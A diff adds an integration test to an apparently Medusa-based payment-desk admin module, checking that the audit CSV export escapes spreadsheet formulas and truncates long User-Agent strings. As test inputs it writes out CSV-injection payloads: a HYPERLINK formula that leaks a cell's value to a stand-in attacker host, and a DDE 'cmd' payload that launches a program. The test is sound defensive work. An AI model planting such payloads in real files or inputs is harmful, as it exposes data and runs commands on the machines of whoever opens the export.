@@ -390,6 +390,30 @@ medusaIntegrationTestRunner({
         expect(filtered[1][12]).toBe(tricky)
       })
 
+      it("neutralises spreadsheet formulas in the export and keeps at most 512 characters of a User-Agent", async () => {
+        const { order_id } = await awaitingOrder()
+        const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Refund")'
+        const agent = `=cmd|' /C calc'!A0 ${"x".repeat(15_000)}`
+        await client.post(
+          `/admin/payment-desk/orders/${order_id}/payments`,
+          { amount: 60, method: "cash", note: formula, reference: "+SUM(1,2)" },
+          { headers: { ...admin.headers, "user-agent": agent } }
+        )
+        const [entry] = (await audit(`order_id=${order_id}&action=payment_recorded`)).audit_entries as Entry[]
+        expect((entry as unknown as { user_agent: string }).user_agent).toBe(agent.slice(0, 512))
+
+        const text = (await client.get(`/admin/payment-desk/audit/export?order_id=${order_id}`, { ...admin, responseType: "text" }))
+          .data as string
+        const [header, ...rows] = parseCsv(text)
+        const record = Object.fromEntries(header.map((name, j) => [name, rows.find((row) => row[0] === entry.id)![j]]))
+        expect(record).toMatchObject({
+          note: `'${formula}`,
+          reference: "'+SUM(1,2)",
+          user_agent: `'${agent.slice(0, 512)}`,
+          amount: "60",
+        })
+      })
+
       it("streams 100,000 entries with flat memory, rows in the JSON list's order", async () => {
         const knex = getContainer().resolve(ContainerRegistrationKeys.PG_CONNECTION)
         // One INSERT ... SELECT for the 100,000 entries (2-4 s; one by one through the module they
